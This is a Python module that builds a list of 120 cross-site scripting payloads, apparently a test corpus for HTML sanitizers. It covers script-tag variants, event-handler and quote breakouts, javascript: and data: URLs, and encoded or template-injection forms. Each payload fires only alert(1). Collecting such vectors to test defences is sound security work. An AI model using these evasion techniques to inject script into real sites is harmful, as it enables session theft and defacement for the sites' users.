"""What people have written to have a browser run it: 120 ways, each of which says so by `alert`."""

from __future__ import annotations

_RUN = "alert(1)"
_QUOTED = ('"', "'", "`", "")
_EVENTS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=/assets/desk.css", "onload"),
    ("math", "onclick"),
)
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<form action=javascript:{_RUN}><button>x",
    f"<button formaction=javascript:{_RUN}>x",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href=javascript:{_RUN}//>",
    f"<a href=javascript:{_RUN} id=x tabindex=1 autofocus onfocus={_RUN}>x</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    f'<div style="background:url(javascript:{_RUN})">x</div>',
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript://x%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_RUN}",
    f'https://a.example/"onmouseover="{_RUN}',
    f"http://a.example/'><img src=x onerror={_RUN}>",
    f"https://a.example/\nonfocus={_RUN} autofocus x=",
    f"//a.example/<script>{_RUN}</script>",
)
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[x](javascript:alert(1))",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    "';alert(1);//",
    '";alert(1);//',
    "`${alert(1)}`",
    "*/alert(1)/*",
    "<svg/onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)


def _events() -> list[str]:
    """Each element as a text of its own, and breaking out of an attribute in each kind of quotes."""
    plain = [f"<{tag} {event}={_RUN}>" for tag, event in _EVENTS]
    broken = [f"{quote}><{tag} {event}={_RUN}>" for tag, event in _EVENTS[:6] for quote in _QUOTED[:3]]
    within = [
        f"{quote} {event}={quote}{_RUN}{quote} autofocus tabindex=1 x={quote}"
        for event in ("onfocus", "onmouseover", "onpointerenter", "onanimationstart", "onclick")
        for quote in _QUOTED
    ]
    return plain + broken + within


PAYLOADS = (*_TAGS, *_events(), *_ADDRESSES, *_ENCODED)
